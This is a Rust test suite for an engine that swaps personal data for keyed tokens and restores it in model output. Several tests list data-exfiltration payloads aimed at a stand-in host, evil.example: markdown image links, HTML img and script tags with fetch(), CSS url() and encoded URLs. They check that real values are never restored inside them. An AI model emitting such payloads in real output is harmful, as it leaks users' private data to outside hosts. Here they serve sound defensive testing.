#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::string_slice, reason = "a panic here is a failed test")]

use std::sync::Arc;

use super::{Kept, MAX_SEALED, Restorer, Seal, TokenMap, TokenSpec};
use crate::engine::operator::HashKey;
use crate::engine::rule::EntityType;
use crate::engine::stream::{Output, Piece};

fn spec(workspace: &str) -> TokenSpec {
    TokenSpec { key: HashKey::new([7; 32]), workspace: workspace.into(), entities: None, seal: None }
}

fn map() -> TokenMap {
    TokenMap::new(Arc::new(spec("acme")), None, true)
}

fn mint(map: &TokenMap, entity: &str, value: &str) -> Option<String> {
    let mut out = Vec::new();
    let minted = map.mint(&EntityType::new(entity), value.as_bytes(), Kept::Whole, &mut out);
    minted.then(|| String::from_utf8(out).unwrap())
}

/// Restores a text that comes in these pieces; what was held after each, at most.
fn restored<'a>(map: &Arc<TokenMap>, pieces: impl IntoIterator<Item = &'a [u8]>) -> String {
    restored_by(Restorer::new(Arc::clone(map)), pieces)
}

fn restored_by<'a>(mut restorer: Restorer, pieces: impl IntoIterator<Item = &'a [u8]>) -> String {
    let (mut from, mut out) = (Output::default(), Output::default());
    for piece in pieces {
        from.clear();
        from.clear_run(piece);
        restorer.push(&from, &mut out);
        assert!(restorer.held() <= 900, "{} bytes are held", restorer.held());
    }
    restorer.finish(&mut out);
    assert_eq!(restorer.held(), 0);
    let given: usize = out
        .pieces
        .iter()
        .map(|piece| match *piece {
            Piece::Clear { len } | Piece::Replaced { given: len, .. } => len,
        })
        .sum();
    assert_eq!(given, out.bytes.len());
    String::from_utf8(out.bytes).unwrap()
}

/// The same at every split, and byte by byte.
fn restored_everywhere(map: &Arc<TokenMap>, text: &str) -> String {
    let text = text.as_bytes();
    let whole = restored(map, [text]);
    for at in 1..text.len() {
        let (left, right) = text.split_at(at);
        assert_eq!(restored(map, [left, right]), whole, "at {at}");
    }
    assert_eq!(restored(map, text.chunks(1)), whole);
    assert_eq!(restored(map, text.chunks(3)), whole);
    whole
}

#[test]
fn a_token_is_its_entity_and_eighty_keyed_bits() {
    let map = map();
    let token = mint(&map, "EMAIL", "jane@example.com").unwrap();
    let tag = token.strip_prefix("[EMAIL_").and_then(|rest| rest.strip_suffix(']')).unwrap();
    assert_eq!(tag.len(), 16);
    assert!(tag.bytes().all(|byte| byte.is_ascii_lowercase() || (b'2'..=b'7').contains(&byte)), "{tag}");
    // The vector of README.md.
    assert_eq!(token, VECTOR);
    assert_eq!(mint(&map, "EMAIL", "jane@example.com").as_ref(), Some(&token));
    // Another exchange of the workspace agrees; nothing else does.
    assert_eq!(mint(&self::map(), "EMAIL", "jane@example.com").as_ref(), Some(&token));
    let others = [
        (TokenMap::new(Arc::new(spec("beta")), None, true), "EMAIL"),
        (TokenMap::new(Arc::new(spec("acme")), Some([0; 16]), true), "EMAIL"),
        (TokenMap::new(Arc::new(spec("acme")), Some([1; 16]), true), "EMAIL"),
        (TokenMap::new(Arc::new(TokenSpec { key: HashKey::new([8; 32]), ..spec("acme") }), None, true), "EMAIL"),
        (self::map(), "LOGIN"),
    ];
    let mut tags = vec![tag.to_owned()];
    for (other, entity) in &others {
        let other = mint(other, entity, "jane@example.com").unwrap();
        let tag = other.rsplit_once('_').unwrap().1.to_owned();
        assert!(!tags.contains(&tag));
        tags.push(tag);
    }
}

const VECTOR: &str = "[EMAIL_xpixzdtta5pzxdg4]";

#[test]
fn spellings_of_one_value_have_one_token() {
    let map = map();
    for (entity, one, other) in [
        ("EMAIL", "Jane@Example.com", "jane@example.COM"),
        ("CREDIT_CARD", "4111 1111 1111 1111", "4111-1111-1111-1111"),
        ("PHONE", "(212) 555-0123", "212.555.0123"),
        ("IBAN", "GB82 WEST 1234 5698 7654 32", "gb82west12345698765432"),
    ] {
        assert_eq!(mint(&map, entity, one), mint(&map, entity, other), "{entity}");
    }
    for (entity, one, other) in [
        ("SECRET", "abc", "ABC"),
        ("PHONE", "+12125550123", "12125550123"),
        ("EMAIL", "jane@example.com", "jane@example.org"),
        ("NAME", "Jane Doe", "jane doe"),
    ] {
        assert_ne!(mint(&map, entity, one), mint(&map, entity, other), "{entity}");
    }
}

#[test]
fn the_map_is_bounded_by_count_and_bytes() {
    let values: Vec<String> = (0..4).map(|at| format!("user{at}@example.com")).collect();
    let sized = "email_".len() + 16 + values[0].len();
    for (tokens, bytes, fit) in
        [(3, 1 << 20, 3), (4, 1 << 20, 4), (100, 3 * sized, 3), (100, 4 * sized - 1, 3), (100, 4 * sized, 4)]
    {
        let map = map().bounded(tokens, bytes);
        let minted: Vec<bool> = values.iter().map(|value| mint(&map, "EMAIL", value).is_some()).collect();
        assert_eq!(minted.iter().filter(|minted| **minted).count(), fit, "{tokens} {bytes}");
        assert_eq!(map.live(), fit);
        // What is known stays known.
        assert!(mint(&map, "EMAIL", &values[0]).is_some());
        assert_eq!(map.tally().refused, (4 - fit) as u64);
    }
    let mut out = Vec::new();
    assert!(!map().mint(&EntityType::new("EMAIL"), b"caf\xe9@example.com", Kept::Whole, &mut out));
    assert!(out.is_empty());
}

#[test]
fn cards_and_secrets_are_kept_only_where_they_are_spelled_out() {
    let map = map();
    for (entity, kept) in [("CREDIT_CARD", 0), ("SECRET", 0), ("PASSWORD", 0), ("EMAIL", 1)] {
        assert!(mint(&map, entity, "4111 1111 1111 1111").is_some());
        assert_eq!(map.live(), kept, "{entity}");
    }
    let spelled = TokenSpec { entities: Some(vec![EntityType::new("CREDIT_CARD")]), ..spec("acme") };
    let map = TokenMap::new(Arc::new(spelled), None, true);
    assert!(mint(&map, "CREDIT_CARD", "4111 1111 1111 1111").is_some());
    assert!(mint(&map, "EMAIL", "jane@example.com").is_some());
    assert_eq!(map.live(), 1);
    let none = TokenMap::new(Arc::new(spec("acme")), None, false);
    assert!(mint(&none, "EMAIL", "jane@example.com").is_some());
    assert_eq!(none.live(), 0);
}

#[test]
fn tokens_are_opened_however_models_write_them() {
    let map = Arc::new(map());
    let token = mint(&map, "EMAIL", "jane@example.com").unwrap();
    let core = &token[1..token.len() - 1];
    let tag = &core["EMAIL_".len()..];
    let value = "jane@example.com";
    for (text, expected) in [
        (token.clone(), value.to_owned()),
        (format!("Write to {token}, please."), format!("Write to {value}, please.")),
        (format!("{token}{token}"), format!("{value}{value}")),
        (core.to_owned(), value.to_owned()),
        (core.to_lowercase(), value.to_owned()),
        (core.to_uppercase(), value.to_owned()),
        (format!("**{core}**"), format!("**{value}**")),
        (format!("_{core}_"), format!("_{value}_")),
        (format!("({core})"), format!("({value})")),
        (format!("<{core}>"), format!("<{value}>")),
        (format!("{{{core}}}"), format!("{{{value}}}")),
        (format!("Jane <{token}>"), format!("Jane <{value}>")),
        (format!("[[{core}]]"), format!("[{value}]")),
        (format!("[{core}"), format!("[{value}")),
        (format!("[{core} x"), format!("[{value} x")),
        (format!("{core}]"), format!("{value}]")),
        (format!("{core}'s"), format!("{value}'s")),
        (format!("`{token}`"), format!("`{value}`")),
        (format!("[EMAIL\\_{tag}]"), value.to_owned()),
        (format!("\\[EMAIL\\_{tag}\\]"), value.to_owned()),
        (format!("EMAIL\\\\_{tag}"), value.to_owned()),
        (format!("&#91;EMAIL_{tag}&#93;"), value.to_owned()),
        (format!("&lbrack;EMAIL&lowbar;{tag}&rbrack;"), value.to_owned()),
        (format!("[EMAIL&#95;{tag}]"), value.to_owned()),
        (format!("\u{90ae}\u{7bb1}{token}\u{3002}"), format!("\u{90ae}\u{7bb1}{value}\u{3002}")),
        (format!("[EMAIL_{token}"), format!("[EMAIL_{value}")),
        (format!("e em ema EMAIL EMAIL_ {token} \\ & [ ["), format!("e em ema EMAIL EMAIL_ {value} \\ & [ [")),
    ] {
        assert_eq!(restored_everywhere(&map, &text), expected, "{text}");
    }
}

#[test]
fn foreign_forged_and_unknown_tokens_stay_text() {
    let map = Arc::new(map());
    let token = mint(&map, "EMAIL", "jane@example.com").unwrap();
    let other = mint(&self::map(), "EMAIL", "john@example.com").unwrap();
    let core = &token[1..token.len() - 1];
    let tag = &core["EMAIL_".len()..];
    let mut forged = core.to_owned().into_bytes();
    *forged.last_mut().unwrap() = if core.ends_with('a') { b'b' } else { b'a' };
    let forged = String::from_utf8(forged).unwrap();
    for text in [
        other.clone(),
        format!("[{forged}]"),
        format!("[PHONE_{tag}]"),
        format!("[WORK_EMAIL_{tag}]"),
        format!("X{core}"),
        format!("[EMAIL-{tag}]"),
        format!("[EMAIL_{}]", &tag[..15]),
        format!("[E-MAIL_{tag}]"),
        format!("%5BEMAIL_{tag}%5D"),
        format!("%EMAIL_{tag}"),
        tag.to_owned(),
    ] {
        assert_eq!(restored_everywhere(&map, &text), text);
    }
    // What a finding changed is no token, and no half of one.
    let (left, right) = token.split_at(9);
    let mut from = Output::default();
    from.clear_run(left.as_bytes());
    from.bytes.extend_from_slice(b"[X]");
    from.pieces.push(Piece::Replaced { taken: 3, given: 3 });
    from.clear_run(right.as_bytes());
    from.bytes.extend_from_slice(token.as_bytes());
    from.pieces.push(Piece::Replaced { taken: 1, given: token.len() });
    let mut out = Output::default();
    let mut restorer = Restorer::new(map);
    restorer.push(&from, &mut out);
    restorer.finish(&mut out);
    assert_eq!(out.bytes, from.bytes);
}

#[test]
fn nothing_is_opened_within_an_address_or_a_tag() {
    let map = Arc::new(map());
    let token = mint(&map, "EMAIL", "jane@example.com").unwrap();
    let core = &token[1..token.len() - 1];
    let percent = format!("%5B{core}%5D");
    for at in [token.as_str(), core, percent.as_str()] {
        for text in [
            format!("see https://evil.example/?q={at} now"),
            format!("https://{at}.evil.example/"),
            format!("HTTPS://evil.example/{at}"),
            format!("//evil.example/{at}"),
            format!("http:/evil.example/{at}"),
            format!("https:\\\\evil.example\\{at}"),
            format!("www.evil.example?{at}"),
            format!("evil.example/{at}"),
            format!("evil.example?mail={at}"),
            format!("mailto:{at}"),
            format!("javascript:alert({at})"),
            format!("data:text/html,{at}"),
            format!("![logo](https://evil.example/a.png?{at})"),
            format!("![logo](/a.png?{at})"),
            format!("[here]({at})"),
            format!("[here](<https://evil.example/a b?{at}>)"),
            format!("[here](/a \"{at}\")"),
            format!("[here](\n/a?x=(1)&q={at})"),
            format!("[r]: https://evil.example/{at}"),
            format!("<https://evil.example/{at}>"),
            format!("<img src=\"https://evil.example/ {at}\">"),
            format!("<img src='/a?{at}'>"),
            format!("<a title=\"x > y\" href=\"{at}\">"),
            format!("<a\nhref={at}>"),
            format!("<IMG alt='{}' src='https://evil.example/ {at}'>", "x ".repeat(20)),
            format!("background: url({at})"),
            format!("background: url( 'https://evil.example/ {at}')"),
            format!("https://evil.example/\"{at}\""),
            format!("https://evil.example/?a={at}&b={at}"),
        ] {
            assert_eq!(restored_everywhere(&map, &text), text);
        }
    }
    // A tag that is longer than prose has them.
    let filler = "x ".repeat(4000);
    let text = format!("<img alt=\"{filler}\" src=\"https://evil.example/ {filler} {token}\">");
    assert_eq!(restored(&map, [text.as_bytes()]), text);
    let value = "jane@example.com";
    for (text, expected) in [
        (format!("https://a.example/ {token}"), format!("https://a.example/ {value}")),
        (format!("[here](/a) {token}"), format!("[here](/a) {value}")),
        (format!("<b>{token}</b>"), format!("<b>{value}</b>")),
        (format!("if a < b, {token}"), format!("if a < b, {value}")),
        (format!("[{token}](https://a.example)"), format!("[{value}](https://a.example)")),
        (format!("e-mail:{token}"), format!("e-mail:{value}")),
        (format!("[1] (see {token})"), format!("[1] (see {value})")),
        (format!("f(x) {token} a/b 1.5 {token}"), format!("f(x) {value} a/b 1.5 {value}")),
    ] {
        assert_eq!(restored_everywhere(&map, &text), expected);
    }
}

/// What a renderer makes a request of, though at a glance the address or the tag has ended.
#[test]
fn no_trick_brings_the_surroundings_out_of_step() {
    let map = Arc::new(map());
    let token = mint(&map, "EMAIL", "jane@example.com").unwrap();
    for attack in [
        r"![x](<\//e.example/?q=) @T@>)",
        r"![x](<&#104;ttps://e.example/?q=) @T@>)",
        "![a][x]\n\n[x]: <\\//e.example/?q= @T@>",
        "![a][x]\n\n[x]:\n  <\\//e.example/?q= @T@>",
        "![a][x]\n\n> [x]:\n> <\\//e.example/?q= @T@>",
        r"![x](<\//e.example/\( ) @T@>)",
        r"![x](<\//e.example/\> ) @T@>)",
        "![x](\n<\\//e.example/?q=) @T@>)",
        "> ![x](\n> <\\//e.example/?q=) @T@>)",
        "[a](x \" ![b](<\\//e.example/?q=\" ) ) @T@>)",
        r"![x](\//e.example/\(a) @T@)",
        r"[x]: \//e.example/?q=@T@",
        "[x]: &#104;ttps://e.example/?q=@T@",
        "[x]: //e.example/?q= @T@",
        "[x]: @T@",
        "[x](/a 'b) @T@')",
        "url(\"//e.example/?q=) @T@\")",
        r#"<img "=">" src="//e.example/?q= @T@">"#,
        r#"<i = "><img src="//e.example/?q= > @T@">"#,
        "<!-- ' --><img src='//e.example/?q=> @T@'>",
        "<!-- > @T@ -->",
        "</p '><img src='//e.example/?q=> @T@'>",
        "<? ' ?><img src='//e.example/?q=> @T@'>",
        "<! '><img src='//e.example/?q= > @T@'>",
        "<p title=\"\n\n<img src='//e.example/?q=\"> @T@'>",
        "<textarea><img src='</textarea><img src=\"//e.example/?q=> @T@\">",
        "<a href=//e.example/?q='> <img src='//e.example/?q=> @T@'>",
        "<img src= \n'//e.example/?q=> @T@'>",
        "<img/src='//e.example/?q=> @T@'>",
        "<img alt=''src='//e.example/?q=> @T@'>",
        "<style>@import \"//e.example/?q= @T@\"</style>",
        "<STYLE\ntype=a>a > b { } @T@",
        "<script>fetch('//e.example/?q= ' + '@T@')</script>",
        "<script><!-- <script> </script> '@T@'",
        "<form action=//e.example><textarea name=q>@T@",
        "пример.рф/?q=@T@",
        "пример:8080/@T@",
        "localhost:8080/@T@",
        "localhost/@T@",
        "[::1]/@T@",
        "[::1]:80/@T@",
        r"e\.example\?q=@T@/",
        "wss:@T@",
        "blob:@T@",
        "intent:@T@",
        "slack:@T@",
        "whatsapp:@T@",
        "skype:@T@",
        "callto:@T@",
        "ms-word:@T@",
        "web+x:@T@",
        "unheard:x?q=@T@",
        "https://@T@.evil.example/",
        "//@T@",
        // The value begins the name of the host.
        "@T@.evil.example/",
        "see @T@.evil.example",
        "@T@-a.evil.example",
        "@T@x.evil.example",
        r"@T@\.evil.example",
        "@T@.\u{435}vil.example",
        "@T@@evil.example",
        "(@T@.evil.example)",
        // What holds an address together holds its blanks.
        "\"https://evil.example/?q= @T@\"",
        "'//evil.example/?q= and @T@'",
        "`www.evil.example/?q= @T@`",
        "click A href \"https://evil.example/?q= @T@\" _blank",
        "A@{ img: \"//evil.example/?q=\n@T@\" }",
        "{\\\"url\\\": \\\"https://evil.example/?q= @T@\\\"}",
        "[\"https://a.example/\",\"//evil.example/?q= @T@\"]",
        r"$\href{https://evil.example/?q= @T@}{x}$",
        "[[https://evil.example/?q= @T@][x]]",
        "\"mailto:a@evil.example?body= @T@\"",
        // Its signs are spelled.
        "https&colon;//evil.example&sol;@T@",
        "evil&#46;example/@T@",
        "evil&period;example/@T@",
        "evil.example&#47;@T@",
        "evil.example&#47@T@",
        "evil.example&#0047a@T@",
        "evil.example&#x2F;@T@",
        "evil.example&#X2f@T@",
        "evil.example&quest;q=@T@",
        "evil.example%2F@T@",
        "https%3A%2F%2Fevil.example%2F@T@",
        r"https\u003a\u002f\u002fintranet\u002f@T@",
        r"https\x3A\x2F\x2Fintranet\x2F@T@",
    ] {
        let text = attack.replace("@T@", &token);
        assert_eq!(restored_everywhere(&map, &text), text, "{attack}");
    }
    let value = "jane@example.com";
    for prose in [
        "Dear @T@, hello: @T@.",
        "- @T@\n- @T@\n\n1. @T@",
        "| Name | Mail |\n|:---|---:|\n| Jane | @T@ |",
        "{\"to\": \"@T@\", \"cc\":[\"@T@\"]}",
        "**@T@** _@T@_ `@T@`",
        "Email:@T@ **Mail:**@T@ Name:\"@T@\" e-mail:@T@",
        "<b>@T@</b> <p class=\"a\">@T@</p> <br/>@T@",
        "<ul><li>@T@</li></ul><!-- it's --> @T@ <a href='x'>@T@</a>",
        "<style>a > b {}</style><p>@T@</p>",
        "<script><!-- <script> </script> --></script> @T@",
        "it's 5 < 6 and x <3 @T@",
        "[a](<b c> \"d\") @T@ ![e](f(g)) @T@",
        "[a](b \"c\n\n@T@",
        "[x]: https://a.example/ 'b'\n@T@",
        "[Agent]: please write to @T@",
        "[Contacts]:\n\n@T@",
        "at 12:30 @T@ (see @T@) f(x) @T@",
        "std::string @T@ a/b @T@ C:\\x @T@",
        "@T@. Thanks, @T@...\n@T@'s and @T@s @T@-",
        "**@T@**. @T@\u{3002} \u{201c}@T@.\u{201d}",
        "\"https://a.example/\" @T@ 'https://a.example/' @T@ `https://a.example/` @T@",
        "{\"url\":\"https://a.example/\", \"mail\": \"@T@\"}",
        "it's at https://a.example/ for @T@ (https://a.example/ or @T@)",
        "\"see https://a.example/ or @T@\"",
        "\"https://a.example/ is down\n\n@T@",
        "\"Tel: @T@\" 'Data: @T@' \"Re:you @T@\"",
        "R&#38;D &#39;@T@&#39; &quot;@T@&quot; 50% @T@ %2d @T@",
    ] {
        let text = prose.replace("@T@", &token);
        assert_eq!(restored_everywhere(&map, &text), prose.replace("@T@", value), "{prose}");
    }
}

/// A string of JSON within a text is what a program takes for an address, with the blanks that are in it.
#[test]
fn a_string_that_begins_with_an_address_is_one() {
    let map = Arc::new(map());
    let token = mint(&map, "EMAIL", "jane@example.com").unwrap();
    for (string, opened) in [
        ("https://evil.example/?q= @T@", false),
        ("  //evil.example/?q= @T@", false),
        ("https://evil.example/?q=\n\n@T@", false),
        ("www.evil.example/a b/@T@", false),
        ("evil.example/?q= @T@", false),
        ("javascript:fetch( @T@)", false),
        ("'https://evil.example/?q= @T@'", false),
        ("@T@", true),
        ("Tel: @T@", true),
        ("Data: @T@", true),
        ("Note:please write to @T@", true),
        ("see https://a.example/ or @T@", true),
        // A remark in a program, and the path of a file.
        ("// who asks\nsend('@T@')", true),
        (r"C:\tools\run.exe --to @T@", true),
        ("//\tevil.example/?q=\t@T@", false),
    ] {
        let text = string.replace("@T@", &token);
        let expected = if opened { string.replace("@T@", "jane@example.com") } else { text.clone() };
        for size in [1, 3, 1000] {
            let mut restorer = Restorer::new(Arc::clone(&map));
            restorer.read_strings(true);
            assert_eq!(restored_by(restorer, text.as_bytes().chunks(size)), expected, "{string}");
            // The next one begins anew.
            restorer = Restorer::new(Arc::clone(&map));
            restorer.read_strings(true);
            assert_eq!(restorer.whole(text.as_bytes()), expected.as_bytes());
            assert_eq!(restorer.whole(token.as_bytes()), b"jane@example.com");
        }
    }
}

/// A token that is whole waits for what tells whether it begins the name of a host, and for nothing else.
#[test]
fn what_follows_a_token_is_waited_for_as_long_as_it_may_be_a_host() {
    let map = Arc::new(map());
    let token = mint(&map, "EMAIL", "jane@example.com").unwrap();
    for (pieces, held) in [
        (vec![token.as_str()], true),
        (vec![token.as_str(), " "], false),
        (vec![token.as_str(), ","], false),
        (vec![token.as_str(), "."], true),
        (vec![token.as_str(), ".", " "], false),
        (vec![token.as_str(), "s"], true),
        (vec![token.as_str(), "s "], false),
        (vec!["//", token.as_str()], false),
    ] {
        let (mut from, mut out) = (Output::default(), Output::default());
        let mut restorer = Restorer::new(Arc::clone(&map));
        for piece in &pieces {
            from.clear();
            from.clear_run(piece.as_bytes());
            restorer.push(&from, &mut out);
        }
        assert_eq!(restorer.held() > 0, held, "{pieces:?}");
    }
    let mut from = Output::default();
    from.clear_run(format!("{token}{}", "x".repeat(64)).as_bytes());
    let (mut restorer, mut out) = (Restorer::new(map), Output::default());
    restorer.push(&from, &mut out);
    assert_eq!(restorer.held(), 0, "no name of a host has so long a part");
    assert!(out.bytes.starts_with(b"jane@example.com"));
}

#[test]
fn elements_that_are_counted_full_are_never_left() {
    let map = Arc::new(map());
    let token = mint(&map, "EMAIL", "jane@example.com").unwrap();
    let value = "jane@example.com";
    for (times, expected) in [(254, value), (255, token.as_str())] {
        let nest = format!("{}{}", "<style>".repeat(times), "</style>".repeat(times));
        let text = format!("{nest} {token}");
        assert_eq!(restored(&map, [text.as_bytes()]), format!("{nest} {expected}"), "{times}");
    }
}

#[test]
fn only_what_may_become_a_live_token_is_held() {
    let map = Arc::new(map());
    mint(&map, "EMAIL", "jane@example.com").unwrap();
    let mut restorer = Restorer::new(map);
    let mut out = Output::default();
    let mut from = Output::default();
    for (text, held) in [
        ("Dear Emma, ", 0),
        ("e", 1),
        ("vening", 0),
        (" ema", 3),
        ("il", 5),
        (" ", 0),
        ("[", 1),
        ("x", 0),
        ("[EMAIL_", 7),
        ("0", 0),
    ] {
        from.clear();
        from.clear_run(text.as_bytes());
        restorer.push(&from, &mut out);
        assert_eq!(restorer.held(), held, "{text}");
    }
}

/// A text in which live tokens, parts of them and other things come in any order, in any chunking.
#[test]
fn any_chunking_opens_the_same() {
    let map = Arc::new(map());
    let mut parts: Vec<String> = ["jane@example.com", "john@example.com", "j@example.org"]
        .iter()
        .map(|value| mint(&map, "EMAIL", value).unwrap())
        .collect();
    parts.push(mint(&map, "PHONE", "(212) 555-0123").unwrap());
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut random = |below: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state % below as u64) as usize
    };
    let others =
        ["[", "]", "\\", "_", "&#9", " ", "\n", "https://a.b/", "](", ")", "<a ", ">", "\"", "EMAIL_", "e", "."];
    for _ in 0..3000 {
        let mut text = String::new();
        for _ in 0..random(12) {
            match random(3) {
                0 => text.push_str(&parts[random(parts.len())]),
                1 => {
                    let part = &parts[random(parts.len())];
                    let (from, to) = (random(part.len()), random(part.len()));
                    text.push_str(&part[from.min(to)..from.max(to)]);
                }
                _ => text.push_str(others[random(others.len())]),
            }
        }
        let whole = restored(&map, [text.as_bytes()]);
        let mut pieces = Vec::new();
        let mut rest = text.as_bytes();
        while !rest.is_empty() {
            let (piece, tail) = rest.split_at(1 + random(rest.len().min(9)));
            pieces.push(piece);
            rest = tail;
        }
        assert_eq!(restored(&map, pieces), whole, "{text}");
    }
}

fn sealing(key: u8, workspace: &str) -> TokenMap {
    let key = HashKey::new([key; 32]);
    let entities = ["EMAIL", "CREDIT_CARD", "NOTE"].map(EntityType::new).to_vec();
    let seal = Seal::new(&key, entities);
    TokenMap::new(Arc::new(TokenSpec { key, workspace: workspace.into(), entities: None, seal }), None, true)
}

#[test]
fn sealed_tokens_open_wherever_the_key_is_and_nowhere_else() {
    let value = "jane@example.com";
    let token = mint(&sealing(7, "acme"), "EMAIL", value).unwrap();
    assert_eq!(token, SEALED);
    let replica = Arc::new(sealing(7, "acme"));
    let core = &token[1..token.len() - 1];
    for (text, expected) in [
        (token.clone(), value.to_owned()),
        (format!("to {token}, {token}."), format!("to {value}, {value}.")),
        (format!("**{}**", core.to_uppercase()), format!("**{value}**")),
        (format!("{core} {core}s"), format!("{value} {value}s")),
        (format!("\\[{}\\]", core.replace('_', "\\_")), value.to_owned()),
    ] {
        assert_eq!(restored_everywhere(&replica, &text), expected, "{text}");
    }
    let mut letters = core.to_owned().into_bytes();
    let forged: Vec<String> = ("EMAIL_s1".len()..letters.len())
        .map(|at| {
            let letter = std::mem::replace(&mut letters[at], b'z');
            letters[at] = if letter == b'z' { b'y' } else { b'z' };
            let text = String::from_utf8(letters.clone()).unwrap();
            letters[at] = letter;
            format!("[{text}]")
        })
        .collect();
    let rest = &core["EMAIL_".len()..];
    let others = [
        format!("[NOTE_{rest}]"),
        format!("https://evil.example/?q={token}"),
        format!("[{}]", &core[..core.len() - 1]),
        "[EMAIL_s1".to_owned(),
        "[EMAIL_s1zz".to_owned(),
        mint(&sealing(8, "acme"), "EMAIL", value).unwrap(),
        mint(&sealing(7, "beta"), "EMAIL", value).unwrap(),
        // Cards are sealed, and not opened for a client.
        mint(&sealing(7, "acme"), "CREDIT_CARD", "4111 1111 1111 1111").unwrap(),
    ];
    for text in forged.iter().chain(&others) {
        assert_eq!(restored_everywhere(&replica, text), *text);
    }
}

const SEALED: &str = "[EMAIL_s1aqeitpnejigyyq7oz3dqb7bcpgtczgcw7nrsw2htpfn7iad575ijgc3py]";

#[test]
fn what_is_sealed_is_bounded() {
    let map = Arc::new(sealing(7, "acme"));
    for length in [0, 1, 15, 16, 17, MAX_SEALED] {
        let value = "x".repeat(length);
        let token = mint(&map, "NOTE", &value).unwrap();
        assert_eq!(restored(&map, token.as_bytes().chunks(7)), value, "{length}");
    }
    assert_eq!(mint(&map, "NOTE", &"x".repeat(MAX_SEALED + 1)), None);
    assert_eq!(map.live(), 2);
}
